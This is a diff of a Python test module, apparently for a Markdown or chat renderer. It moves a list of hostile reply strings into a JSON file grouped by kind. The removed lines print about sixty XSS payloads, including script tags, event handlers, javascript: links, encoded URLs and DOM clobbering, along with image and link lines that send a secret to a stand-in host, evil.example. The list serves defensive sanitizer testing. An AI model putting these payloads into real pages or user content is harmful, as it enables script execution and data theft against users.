@@ -1,62 +1,15 @@
-"""Replies that want to run, fetch or disguise something. Each would alert or ask FOREIGN."""
+"""Replies that want to run, fetch or disguise something: hostile_replies.json, by what they try.
+
+Each would open a dialog or ask FOREIGN if it could. After OWASP's cheat sheets and what Markdown
+adds of its own: addresses, references, fences, autolinks.
+"""
+
+import json
+from pathlib import Path
 
 FOREIGN = "https://evil.example"
 
-HOSTILE_REPLIES = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    f'<img src="{FOREIGN}/a.png">',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">t</text></a></svg>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    f'<iframe src="{FOREIGN}"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    f'<object data="{FOREIGN}/o"></object>',
-    f'<embed src="{FOREIGN}/e">',
-    f'<link rel=stylesheet href="{FOREIGN}/s.css">',
-    f"<style>@import '{FOREIGN}/s.css'; body{{display:none}}</style>",
-    f'<div style="background:url({FOREIGN}/b.png)">x</div>',
-    f'<base href="{FOREIGN}/">',
-    f'<meta http-equiv=refresh content="0;url={FOREIGN}">',
-    f'<form action="{FOREIGN}"><button autofocus onfocus=alert(1)>x</button></form>',
-    "<details open ontoggle=alert(1)>x</details>",
-    '<input autofocus onfocus="alert(1)">',
-    f'<video src="{FOREIGN}/v.mp4" onerror=alert(1) autoplay></video>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<template><script>alert(1)</script></template>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](&#106;&#97;vascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:alert(1))",
-    '[x](<javascript:alert(1)> "t")',
-    "<javascript:alert(1)>",
-    "[x]: javascript:alert(1)\n\n[x]",
-    f"![x]({FOREIGN}/leak.png?secret=1)",
-    f"![x][leak]\n\n[leak]: {FOREIGN}/leak.png",
-    f"[![x]({FOREIGN}/badge.svg)](https://example.com)",
-    "![x](javascript:alert(1))",
-    '![x](x"onerror="alert(1))',
-    '[x](https://example.com/"onmouseover="alert(1))',
-    '[x](https://example.com "t" onclick="alert(1)")',
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><img src=x onerror=alert(1)>\ncode\n```',
-    "```xml\n<img src=x onerror=alert(1)>",
-    "- ```<script>alert(1)</script>\n  x\n  ```",
-    "> <script>alert(1)</script>\n> ```js\n> alert(1)\n> ```",
-    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
-    "# <img src=x onerror=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "`<img src=x onerror=alert(1)>`",
-    '<p id="composer" name="composer"><input id="composer-text" name="body">',
-    "<a id=boot></a><form name=document><input name=cookie></form>",
-    "\u202egnp.exe <script\u2028>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "**<b onmouseover=alert(1)>*x</b>**",
-    "x" * 3000 + "<img src=x onerror=alert(1)>",
-]
+HOSTILE_BY_KIND: dict[str, list[str]] = json.loads(
+    Path(__file__).with_suffix(".json").read_text(encoding="utf-8")
+)
+HOSTILE_REPLIES = [text for texts in HOSTILE_BY_KIND.values() for text in texts]
